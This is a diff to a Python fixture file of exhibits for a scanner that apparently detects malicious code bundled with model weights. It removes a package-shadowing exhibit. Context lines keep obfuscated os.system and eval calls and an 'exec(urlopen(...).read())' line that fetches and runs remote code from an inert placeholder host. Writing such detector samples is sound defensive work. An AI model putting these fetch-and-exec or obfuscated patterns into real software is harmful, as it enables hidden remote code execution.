@@ -1,4 +1,4 @@
-"""REP-16, REP-17, REP-21, OTH-31, TOR-21 and the code behind PKL-36, PKL-37 and GAD-15: programs beside the weights.
+"""REP-16, REP-17, REP-21, OTH-31, TOR-21 and the code behind PKL-36 and GAD-15: programs beside the weights.
 
 None of it runs by a default load: somebody allows it, deploys it, opens it or installs it. So it is suspicious, and
 malicious only where it hides what it does, or fetches and runs something as soon as it is executed.
@@ -110,11 +110,10 @@ EXHIBITS: tuple[Exhibit, ...] = (
     _hidden("module_in_pieces", "__import__('o' + 's').system('echo INERT')"),
     _hidden("builtin_in_pieces", "globals()['__builtins__']['ev' + 'al']('1')"),
     _hidden("fetched_text", "import urllib.request", "exec(urllib.request.urlopen('http://inert.invalid/').read())"),
-    # -- TOR-21, PKL-36, PKL-37, GAD-15 -------------------------------------------------------------------------------
+    # -- TOR-21, PKL-36, GAD-15 -----------------------------------------------------------------------------------
     _row("TOR-21", "hubconf_source", source, name="hubconf.py", twin_name="modeling.py"),
     _row("TOR-21", "hubconf_that_runs_something", partial(source, *_OUT_OF_FUNCTION), name="hubconf.py", twin_name="modeling.py"),
     _row("PKL-36", "module_whose_import_is_the_payload", partial(source, *_OUT_OF_FUNCTION, honest=""), name="inert_absent_pkg.py", twin=source),
-    _row("PKL-37", "module_called_like_a_package", source, name="numpy.py", twin_name="modeling.py", word=Word.DENY, departs=_IMPORTED),
     _row("GAD-15", "sympify_at_import", partial(source, "import sympy", "sympy.sympify(input())"), twin=partial(source, "import sympy", "sympy.symbols('x')")),
     _row("GAD-15", "asteval_at_import", partial(source, "import asteval", "asteval.Interpreter()('1')"), twin=partial(source, "import asteval")),
     _row("GAD-15", "sh_at_import", partial(source, "import sh", "sh.echo('INERT')"), twin=partial(source, "import sh")),
